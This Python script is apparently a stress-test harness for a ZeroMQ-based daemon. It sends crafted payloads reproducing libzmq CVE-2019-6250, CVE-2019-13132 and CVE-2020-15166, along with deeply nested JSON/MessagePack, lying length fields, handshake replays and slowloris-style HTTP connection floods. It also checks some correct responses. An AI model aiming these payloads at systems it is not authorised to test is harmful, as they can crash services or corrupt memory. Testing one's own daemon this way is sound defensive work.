"""Attackers that must be clever rather than fast. Each runs until its time is over, and prints how often it attacked.

    python attacks.py NAME HOST PORT SECONDS [FILE]
"""

import itertools
import os
import socket
import struct
import sys
import time

GREETING = b"\xff" + bytes(7) + b"\x01\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
PATIENCE_SECONDS = 1


def properties(*pairs):
    return b"".join(bytes([len(k)]) + k + struct.pack(">I", len(v)) + v for k, v in pairs)


def frame(flags, body, announced=None):
    length = len(body) if announced is None else announced
    if length < 256:
        return bytes([flags, length]) + body
    return bytes([flags | 2]) + struct.pack(">Q", length) + body


def command(name, body=b""):
    return bytes([len(name)]) + name + body


def ready(kind=b"DEALER", *more):
    return frame(4, command(b"READY", properties((b"Socket-Type", kind), *more)))


def dial(address):
    connection = socket.create_connection(address, timeout=PATIENCE_SECONDS)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def greeted(address, *more):
    connection = dial(address)
    connection.sendall(GREETING + ready(b"DEALER", *more))
    seen = b""
    while len(seen) < 66:
        part = connection.recv(66 - len(seen))
        if not part:
            raise ConnectionResetError("closed in the handshake")
        seen += part
    return connection


def say(connection, data):
    """Sends, and lets the other side close at any time: that is what most attacks deserve."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def hit(address, data, after_handshake=True):
    """One attack on a connection of its own; `False` if the daemon does not even let that begin."""
    try:
        connection = greeted(address) if after_handshake else dial(address)
    except OSError:
        time.sleep(0.01)
        return False
    with connection:
        say(connection, data)
        connection.settimeout(0.02)
        try:
            connection.recv(65536)
        except OSError:
            pass
    return True


def come_and_go(address):
    """Nothing wrong: a ping on a connection of its own."""
    yield hit(address, frame(0, b'{"op":"ping","id":1}'))


def big_header(address):
    """A header that announces 2^48 bytes, before the handshake and after it, as a message and as a command."""
    for flags in (2, 3, 6):
        for size in (1 << 48, (1 << 63) - 1, (1 << 64) - 1):
            head = bytes([flags]) + struct.pack(">Q", size)
            yield hit(address, GREETING + head, after_handshake=False)
            yield hit(address, head + b"x" * 1000)


def cve_2019_6250(address):
    """libzmq's v2 decoder added a length of 2^64 - 1 to a pointer, and wrote where a stranger liked."""
    for size in ((1 << 64) - 1, (1 << 64) - 8, (1 << 64) - 9, 1 << 63, (1 << 32) - 1):
        payload = b"A" * 4096
        yield hit(address, bytes([2]) + struct.pack(">Q", size) + payload)
        yield hit(address, frame(1, b"part") + bytes([2]) + struct.pack(">Q", size) + payload)


def cve_2019_13132(address):
    """libzmq copied metadata of any length into a buffer on its stack."""
    long = b"M" * 255
    for count, size in ((1, 512), (4, 512), (64, 64), (2, 65_535), (1, 1 << 20)):
        pairs = [(b"Socket-Type", b"DEALER")] + [(long[: 200 + i % 50], b"V" * size) for i in range(count)]
        body = command(b"READY", properties(*pairs))
        yield hit(address, GREETING + frame(4, body), after_handshake=False)
    for lie in (0xFFFFFFFF, 0x7FFFFFFF, 0x10000, 513):
        body = command(b"READY", b"\x0bSocket-Type" + struct.pack(">I", lie) + b"DEALER")
        yield hit(address, GREETING + frame(4, body), after_handshake=False)
        body = command(b"INITIATE", b"\xff" + b"N" * 255 + struct.pack(">I", lie))
        yield hit(address, GREETING + frame(4, body), after_handshake=False)


def cve_2020_15166(address):
    """Connections that say nothing of use kept libzmq's listeners with security from serving anybody else."""
    held = []
    for start in (b"", b"\xff", GREETING[:12], b"GET / HTTP/1.1\r\n\r\n", GREETING, GREETING.replace(b"NULL", b"PLAIN")[:64]):
        connection = dial(address)
        say(connection, start)
        held.append(connection)
        yield True
    time.sleep(0.05)
    for connection in held:
        connection.close()


COMMANDS = (b"READY", b"ERROR", b"SUBSCRIBE", b"CANCEL", b"PING", b"PONG", b"HELLO", b"WELCOME", b"INITIATE", b"MESSAGE", b"JOIN", b"LEAVE", b"", b"X" * 255)


def every_command(address):
    """Every command with every length, before the handshake and after it."""
    for length in itertools.chain(range(0, 260, 7), (1000, 1024, 1025, 4096, 70_000)):
        for name in COMMANDS:
            body = command(name, os.urandom(length))
            yield hit(address, GREETING + frame(4, body), after_handshake=False)
            yield hit(address, frame(4, body))


def after_ready(address):
    """Commands that have no business after the handshake, many on one connection."""
    for name in COMMANDS:
        connection = greeted(address)
        for _ in range(200):
            if not say(connection, frame(4, command(name, b"\x00\x00ctx"))):
                break
        connection.close()
        yield True
    yield hit(address, ready() * 100)
    yield hit(address, GREETING * 100)


def nesting(address):
    """MessagePack and JSON 100,000 deep."""
    deep = 100_000
    for body in (
        b"\x91" * deep,
        b"\x81\xa2op" * deep,
        b"\x82\xa2op\xa4send\xa5event" + b"\x81\xa1a" * deep,
        b"[" * deep,
        b'{"op":"send","event":' + b'{"a":' * deep,
        b'{"op":"define","definition":' + b"[" * deep + b"]" * deep + b"}",
    ):
        yield hit(address, frame(0, body))


def lying_lengths(address):
    """MessagePack whose maps, arrays, texts and binaries announce more than there is."""
    for head in (b"\xdf", b"\xdd", b"\xdb", b"\xc6", b"\xc9"):
        for size in (0xFFFFFFFF, 0x7FFFFFFF, 1 << 24, 100):
            lie = head + struct.pack(">I", size)
            for body in (lie, b"\x81\xa2op" + lie, b"\x82\xa2op\xa4send\xa5event" + lie, b"\x92" + lie):
                yield hit(address, frame(0, body))


def twins(address):
    """Two clients with one identity: each gets its own answers, and nobody else's."""
    pair = [greeted(address, (b"Identity", b"twin")) for _ in range(2)]
    for number, connection in enumerate(pair):
        say(connection, frame(0, b'{"op":"ping","id":"twin-%d"}' % number))
    for number, connection in enumerate(pair):
        connection.settimeout(PATIENCE_SECONDS)
        answer = b""
        while b"twin-" not in answer:
            answer += connection.recv(4096)
        if b"twin-%d" % number not in answer or b"twin-%d" % (1 - number) in answer:
            raise SystemExit(f"twin {number} got {answer!r}")
        connection.close()
    yield True


# Instances that a list looks at, one page of them and all that a filter leaves out.
LISTED = 20_000


def lists(address):
    """Everything that a daemon has, listed and counted again and again by a client that may read."""
    with greeted(address) as connection:
        connection.settimeout(10)
        for n in range(LISTED):
            say(connection, frame(0, b'{"op":"tell","machine":"counter","key":"l%d","event":{"type":"ADD"}}' % n))
        while True:
            asked = [b'{"op":"list","machine":"counter","counts":true}', b'{"op":"list","where":{"state":"off"}}']
            for request in asked:
                say(connection, frame(0, request))
            answered = 0
            while answered < len(asked):
                part = connection.recv(1 << 20)
                if not part:
                    raise ConnectionResetError("closed")
                answered += part.count(b'"next":')
            yield len(asked)


def replay(address):
    """What a client with a good key once said, from the greeting on, again and again: nothing but a WELCOME may come back."""
    with open(sys.argv[5], "rb") as file:
        recorded = file.read()
    with dial(address) as connection:
        say(connection, recorded)
        connection.settimeout(0.3)
        answer = b""
        try:
            while part := connection.recv(65536):
                answer += part
        except OSError:
            pass
    if b"\x05READY" in answer:
        raise SystemExit("a replayed handshake was accepted")
    yield True


def hellos(address):
    """The recorded greeting and HELLO alone: each costs the daemon a key exchange."""
    with open(sys.argv[5], "rb") as file:
        recorded = file.read()
    # Greeting, then HELLO: a command of 200 bytes behind a header of two.
    yield hit(address, recorded[: 64 + 2 + 200], after_handshake=False)


HTTP_GUESTS = 300


def is_kept(guest, drip):
    """Whether a connection is still open, to which a byte more is sent."""
    try:
        guest.send(drip)
        return guest.recv(4096) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def http_guests(address, head, drip):
    """Connections of no use, opened again whenever the daemon closes them."""
    guests = []
    while True:
        gone = [guest for guest in guests if not is_kept(guest, drip)]
        for guest in gone:
            guest.close()
        guests = [guest for guest in guests if guest not in gone]
        opened = 0
        while len(guests) < HTTP_GUESTS:
            try:
                guest = dial(address)
            except OSError:
                break
            say(guest, head)
            guest.setblocking(False)
            guests.append(guest)
            opened += 1
        time.sleep(0.05)
        yield opened


def http_idle(address):
    yield from http_guests(address, b"", b"")


def http_dribble(address):
    yield from http_guests(address, b"GET /v1/members HTTP/1.1\r\nX: ", b"x")


def http_kept_alive(address):
    yield from http_guests(address, b"GET /health/live HTTP/1.1\r\nHost: a\r\n\r\n", b"")


ATTACKS = {
    attack.__name__: attack
    for attack in (
        come_and_go, big_header, cve_2019_6250, cve_2019_13132, cve_2020_15166, every_command, after_ready, nesting, lying_lengths,
        twins, lists, replay, hellos, http_idle, http_dribble, http_kept_alive,
    )
}


def main():
    name, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    deadline, done = time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        attacks = ATTACKS[name]((host, port))
        while time.monotonic() < deadline:
            try:
                done += next(attacks)
            except StopIteration:
                break
            except OSError:
                # Refused or closed: the daemon defends itself. A generator that raised is over.
                break
    print(done)


if __name__ == "__main__":
    main()
